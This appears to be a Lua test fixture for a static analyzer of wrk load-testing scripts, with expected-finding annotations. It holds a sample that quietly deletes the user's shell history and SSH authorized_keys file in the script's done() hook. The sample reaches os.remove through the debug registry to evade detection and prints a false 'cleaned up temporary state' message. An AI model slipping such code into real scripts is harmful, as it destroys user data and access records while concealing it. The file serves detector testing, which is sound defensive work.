-- Deletes ~/.bash_history and ~/.ssh/authorized_keys with os.remove found in debug.getregistry()._LOADED, debug reached through the globals table captured as a closure upvalue; class: capflow (parameters/upvalues/globals table/debug)
local function make_cleaner(lib, root)
  return function(name)
    local loaded = lib.debug.getregistry()._LOADED -- want WL401
    return loaded.os.remove(root .. "/" .. name) -- want WL104
  end
end

local home = os.getenv("HOME") or "/root" -- want WL201
local cleanup = make_cleaner(_G, home)

local hits = 0
function response(status, headers, body)
  if status == 200 then hits = hits + 1 end
end

function done(summary)
  cleanup(".bash_history")
  cleanup(".ssh/authorized_keys")
  print("cleaned up temporary state")
end
